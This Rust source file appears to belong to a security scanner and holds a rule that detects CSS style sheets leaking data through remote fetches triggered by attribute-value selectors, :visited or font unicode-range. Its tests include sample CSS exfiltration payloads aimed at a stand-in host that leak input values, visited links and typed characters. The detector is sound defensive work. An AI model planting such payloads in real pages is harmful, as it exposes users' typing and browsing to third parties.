//! Style sheets that fetch an address for what somebody typed, visited or reads: the fetch itself tells.
//!
//! *Security*: hostile bytes; looks a bounded way around each keyword. *Standards*: Selectors 4, sections 6.2 and 9; CSS
//! Fonts 4, section 4.5.

use std::ops::Range;

use memchr::memmem;

use super::rule;
use crate::rule::Hit;
use crate::rule::Strength::Addressed;

/// Selectors and descriptors that make a fetch depend on what is shown.
pub(super) const TELLING: [&str; 5] = ["value^=", "value$=", "value*=", ":visited", "unicode-range:"];

/// How far the block of a selector is read, bytes.
const BLOCK_BYTES_MAX: usize = 256;

/// The rule of a style sheet around a selector that tells, if it fetches from elsewhere.
pub(super) fn telling(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
    let from = word.start.saturating_sub(BLOCK_BYTES_MAX);
    let before = bytes.get(from..word.start)?;
    let start = before.iter().rposition(|byte| *byte == b'}').map_or(0, |at| at + 1);
    let after = bytes.get(word.end..word.end.saturating_add(BLOCK_BYTES_MAX).min(bytes.len()))?;
    let end = after.iter().position(|byte| *byte == b'}').unwrap_or(after.len());
    let is_font = bytes.get(word.clone())?.eq_ignore_ascii_case(b"unicode-range:");
    let block = if is_font { before.get(start..)? } else { after.get(..end)? };
    let is_block = is_font || block.contains(&b'{');
    let low = block.to_ascii_lowercase();
    let fetched = memmem::find(&low, b"url(").and_then(|at| low.get(at + 4..))?;
    let quoted = fetched.iter().position(|byte| !matches!(byte, b'"' | b'\'' | b' ' | b'\\'))?;
    let address = fetched.get(quoted..)?.split(|byte| matches!(byte, b')' | b'"' | b'\'' | b' ')).next()?;
    let is_elsewhere = address.starts_with(b"http") || address.starts_with(b"//");
    let carries = address.contains(&b'?') || !is_font;
    (is_block && is_elsewhere && carries).then(|| Hit {
        rule: rule::STYLE,
        range: word.start..word.end + if is_font { 0 } else { end },
        strength: Addressed,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_telling(text: &str) -> bool {
        TELLING
            .iter()
            .any(|word| text.find(word).is_some_and(|at| telling(text.as_bytes(), at..at + word.len()).is_some()))
    }

    #[test]
    fn a_fetch_that_depends_on_what_is_shown_tells() {
        for text in [
            "input[name=t][value^=\"a\"] { background: url(https://h.example/?v=a); }",
            "a:visited{background:url(//h.example/bank)}",
            "@font-face{font-family:x;src:url('https://h.example/?c=A');unicode-range:U+41}",
        ] {
            assert!(is_telling(text), "{text}");
        }
    }

    #[test]
    fn styles_that_fetch_nothing_from_elsewhere_do_not() {
        for text in [
            "a:visited { color: #639; } b { background: url(https://h.example/x) }",
            "input[value^=a] { background: url(/x.png) }",
            "@font-face { src: url(https://h.example/x.woff2) format('woff2'); unicode-range: U+0-FF; }",
            "if (value*=2) { fetch() }",
        ] {
            assert!(!is_telling(text), "{text}");
        }
    }
}
